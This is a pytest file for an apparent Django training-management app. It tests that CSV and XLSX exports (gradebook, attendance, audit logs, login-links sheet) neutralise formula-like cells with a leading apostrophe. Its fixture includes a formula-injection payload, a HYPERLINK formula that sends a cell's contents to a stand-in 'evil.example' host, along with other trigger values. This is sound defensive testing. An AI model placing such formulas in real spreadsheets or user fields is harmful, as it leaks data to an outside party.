import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from lms.spreadsheets import Table, table_csv, table_xlsx


def _table():
    return Table(
        title="成绩册",
        headers=["姓名", "=cmd", "得分"],
        rows=[["=HYPERLINK(\"x\")", "-1", Decimal("87.5")], ["李四", None, 12]],
    )


def test_xlsx_keeps_numbers_as_numbers_and_neutralises_only_text():
    response = table_xlsx(_table(), "成绩册.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["姓名", "'=cmd", "得分"]
    assert values[1] == ["'=HYPERLINK(\"x\")", "'-1", 87.5]
    assert values[2] == ["李四", None, 12]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= 6


def test_csv_has_a_bom_and_chinese_headers():
    response = table_csv(_table(), "成绩册.csv")
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["姓名", "'=cmd", "得分"]
    assert rows[1] == ["'=HYPERLINK(\"x\")", "'-1", "87.5"]
    assert "filename*=UTF-8''" in response["Content-Disposition"]


# --- every spreadsheet the app writes, with names a spreadsheet would run (issue 26, item 5)

DANGEROUS = {
    "trainee": '=HYPERLINK("http://evil.example/?x="&B2,"点击")',
    "staff": "@SUM(1+1)",
    "team": "+团队",
    "community": "-1+河岗",
}


def _cells(response, fmt):
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).active
        return [value for row in sheet.iter_rows(values_only=True) for value in row if isinstance(value, str)]
    return [value for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for value in row]


@pytest.fixture
def dangerous_world(world):
    from tests.courses.factories import TeamFactory
    from tests.projects.factories import FieldProjectFactory

    world.trainee.full_name = DANGEROUS["trainee"]
    world.trainee.set_unusable_password()  # made from a sheet: the links sheet lists it
    world.trainee.save()
    world.staff.full_name = DANGEROUS["staff"]
    world.staff.save()
    world.community.name = DANGEROUS["community"]
    world.community.save()
    team = TeamFactory(cohort=world.cohort, name=DANGEROUS["team"])
    world.enrolment.team = team
    world.enrolment.save()
    FieldProjectFactory(team=team, community=world.community, title="=1+1")
    return world


@pytest.mark.django_db
def test_every_export_and_the_links_sheet_write_formulas_as_text(client, dangerous_world):
    world = dangerous_world
    client.force_login(world.staff)
    links = client.post(f"/cohorts/{world.cohort.pk}/enrol-sheet/links.xlsx")  # audited: the audit names the staff
    assert links.status_code == 200
    downloads = {"links sheet": (links, "xlsx")}
    for fmt in ("csv", "xlsx"):
        for name, path in {
            "attendance": f"/cohorts/{world.cohort.pk}/attendance.{fmt}",
            "gradebook": f"/cohorts/{world.cohort.pk}/gradebook.{fmt}",
            "eligibility": f"/cohorts/{world.cohort.pk}/eligibility.{fmt}",
            "participation": f"/projects/cohorts/{world.cohort.pk}/totals.{fmt}",
            "audit": f"/audit/export.{fmt}",
        }.items():
            response = client.get(path)
            assert response.status_code == 200, (name, fmt, response.status_code)
            downloads[f"{name} {fmt}"] = (response, fmt)
    expected = {
        "links sheet": ["trainee"],
        "attendance": ["trainee", "team"],
        "gradebook": ["trainee", "team"],
        "eligibility": ["trainee"],
        "participation": ["team", "community"],
        "audit": ["staff"],
    }
    for label, (response, fmt) in downloads.items():
        cells = _cells(response, fmt)
        live = [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
        assert not live, (label, live)
        for who in expected[label.split(" ")[0] if not label.startswith("links") else "links sheet"]:
            assert "'" + DANGEROUS[who] in cells, (label, who)
